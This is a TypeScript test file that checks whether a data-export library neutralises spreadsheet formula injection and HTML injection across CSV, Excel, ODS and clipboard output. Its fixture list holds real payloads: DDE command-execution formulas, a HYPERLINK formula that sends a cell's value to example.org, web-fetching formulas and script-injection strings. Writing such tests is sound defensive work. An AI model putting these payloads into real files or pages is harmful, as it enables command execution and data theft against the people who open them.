import { JSDOM } from 'jsdom';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { handoutCsv } from '$lib/export/csv';
import { cellOf, type Handout } from '$lib/export/handout';
import { writeOds } from '$lib/export/ods';
import { tableHtml, tableText } from '$lib/export/rich-table';
import { sheetsOf } from '$lib/export/sheets';
import { writeWorkbook } from '$lib/export/workbook';
import { zipParts } from './zip-parts';

/** Texts a spreadsheet runs, or has run, as a formula, a link or a command. */
const attacks = [
	'=1+1',
	'=HYPERLINK("http://example.org/?x="&A1,"Open")',
	"=cmd|' /C calc'!A0",
	'+1+1',
	'+44 115 496 0000',
	'-2+3',
	'-cmd|x',
	'@SUM(A1:A9)',
	'\t=1+1',
	'\r=1+1',
	'\n=1+1',
	' =1+1',
	'\u200b=1+1',
	'\ufeff=1+1',
	'＝1+1',
	'＋1',
	'－1+2',
	'＠SUM(A1)',
	'=DDE("cmd";"/C calc";"x")',
	'=IMPORTXML("http://example.org","//a")',
	'=WEBSERVICE("http://example.org")',
	'"=1+1"',
	"'=1+1",
	'a\t=1+1',
	'a\r\n=1+1',
	'<img src=x onerror=alert(1)>',
	'</td></tr></table><script>alert(1)</script>',
	']]><x/>'
] as const;

/** Figures that must stay numbers. */
const numbers = [
	['-3.5', -3.5],
	['−12', -12],
	['0', 0],
	['1,234', 1234],
	['4%', 4]
] as const;

const rows = [
	...attacks.map((text) => ({ head: text, cells: [cellOf(text, null), cellOf(text, text)] })),
	...numbers.map(([text]) => ({ head: `Number ${text}`, cells: [cellOf(text), cellOf(text)] }))
].map((row) => ({ ...row, source: attacks[0], retrieved: attacks[1] }));

const handout: Handout = {
	title: attacks[0],
	geography: attacks[1],
	period: attacks[2],
	unit: attacks[3],
	mode: 'public',
	sentence: attacks[4],
	source: attacks[5],
	editions: [],
	retrieved: attacks[6],
	alt: attacks[7],
	notes: [...attacks],
	symbols: attacks.map((mark) => ({ mark, meaning: mark })),
	tables: [
		{
			name: 'Figures',
			table: { caption: attacks[0], columns: ['Name', '=2+2', '@x'], rows, notes: [] }
		}
	],
	file: ['x']
};
const about = { title: handout.title, description: handout.alt };

/** What a spreadsheet takes for the beginning of a formula, a true number aside. */
const runs = (text: string) =>
	!/^-?\d+(\.\d+)?$/.test(text) && /^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]/u.test(text);

describe('texts a spreadsheet may run', () => {
	it('are disarmed in CSV, and true numbers stay numbers', () => {
		const [, ...read] = Papa.parse<string[]>(handoutCsv(handout).replace(/^\uFEFF/, ''), {
			skipEmptyLines: true
		}).data;
		expect(read).toHaveLength(rows.length);
		expect(read.flat().filter(runs)).toEqual([]);
		expect(read.slice(-numbers.length).map((row) => Number(row[3]))).toEqual(
			numbers.map(([, value]) => value)
		);
	});

	it('are text in Excel, with no formula anywhere, and true numbers are numbers', async () => {
		const parts = zipParts(await writeWorkbook(sheetsOf(handout), about));
		const sheet = parts.get('xl/worksheets/sheet4.xml') ?? '';
		for (const [name, text] of parts)
			if (name.startsWith('xl/worksheets/')) expect(text).not.toMatch(/<f[ >/]/);
		const shared = parts.get('xl/sharedStrings.xml') ?? '';
		const texts = [...shared.matchAll(/<t[^>]*>([^<]*)<\/t>/g)].map(([, text = '']) =>
			text.replaceAll('&apos;', "'").replaceAll('&#39;', "'")
		);
		expect(texts.length).toBeGreaterThan(attacks.length);
		expect(texts.filter(runs)).toEqual([]);
		for (const [, value] of numbers) expect(sheet).toContain(`<v>${value}</v>`);
	});

	it('are text in ODS, which has no formula cell at all, and true numbers are numbers', () => {
		const content = zipParts(writeOds(sheetsOf(handout), about)).get('content.xml') ?? '';
		expect(content).not.toMatch(/table:formula|<script|<img/);
		const read = new JSDOM(content, { contentType: 'text/xml' }).window.document;
		const cells = [...read.getElementsByTagName('table:table-cell')];
		expect(cells.length).toBeGreaterThan(100);
		const texts = cells.filter((each) => each.getAttribute('office:value-type') === 'string');
		expect(texts.length + cells.filter((each) => each.hasAttribute('office:value')).length).toBe(
			cells.length
		);
		expect(texts.map((each) => each.textContent ?? '').filter(runs)).toEqual([]);
		for (const [, value] of numbers)
			expect(content).toContain(`office:value-type="float" office:value="${value}"`);
	});

	it('are text on the clipboard, as HTML and as plain text', () => {
		const read = new JSDOM(tableHtml(handout)).window.document;
		expect(read.querySelector('script, img')).toBeNull();
		expect(read.querySelectorAll('tbody tr')).toHaveLength(rows.length);
		const cells = [...read.querySelectorAll('th, td')].map((each) => each.textContent ?? '');
		expect(cells.filter((text) => runs(text) && !/^-?[\d,.]+%?$/.test(text))).toEqual([]);
		const lines = tableText(handout).split('\r\n');
		expect(lines).toHaveLength(rows.length + 2 + handout.symbols.length + handout.notes.length + 3);
		const plain = lines.flatMap((line) => line.split('\t'));
		expect(plain.filter((text) => runs(text) && !/^-?[\d,.]+%?$/.test(text))).toEqual([]);
	});
});
